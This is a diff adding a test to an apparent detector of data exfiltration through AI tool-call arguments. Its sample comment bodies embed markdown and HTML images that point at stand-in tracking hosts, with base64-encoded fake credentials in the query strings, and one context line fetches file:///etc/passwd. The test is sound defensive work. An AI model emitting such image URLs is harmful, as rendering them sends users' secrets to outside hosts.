@@ -127,6 +127,19 @@ def test_any_tools_url_field_is_a_destination_free_text_is_not() -> None:
     assert not _one("add_bookmark", {"url": "http://localhost:3000"})["destination"]  # it records, fetches nothing
 
 
+def test_an_image_in_written_text_is_a_destination_when_it_carries_data() -> None:
+    """Rendering a comment or an email fetches its images: markdown inline and by reference, img/source src and srcset."""
+    note = "ZGIgcGFzc3dvcmQgZm9yIHByb2QgaXMgV2ludGVyMjAyNiEgYW5kIHRoZSB2cG4gcGluIGlzIDQ0NzE"
+    for body in (f"ok ![x](https://img.cdn-x.net/b.png?v={note})", f"![b][1]\n\n[1]: https://ci-badges.io/b.svg?d={note}\n",
+                 f'<img src="/a.png" srcset="https://px.track.net/o.png?u={note} 2x">', f'<picture><source srcset="https://px.track.net/i.webp?u={note}"></picture>'):
+        found = _urls("create_issue_comment", {"body": body})
+        assert any(u["destination"] and u["data"] for u in found), body
+    plain = _urls("create_issue_comment", {"body": f"![hero](https://images.unsplash.com/photo-1?w=1600&q=80) [doc](https://d.example/x?v={note})"})
+    assert not any(u["destination"] for u in plain)
+    local = _urls("create_issue_comment", {"body": "![a](http://localhost:3000/x.png) <img src=\"https://camo.githubusercontent.com/4b3c/68747470733a2f2f782e696f2f612e706e67\">"})
+    assert not any(u["destination"] for u in local)  # an image of a local dev server, a proxied image: data, not fetches
+
+
 def test_file_urls_are_destinations_of_fetch_tools_only() -> None:
     assert _one("fetch", {"url": "file:///etc/passwd"})["destination"]
     assert not _one("open_document", {"uri": "file:///home/u/a.pdf"})["destination"]
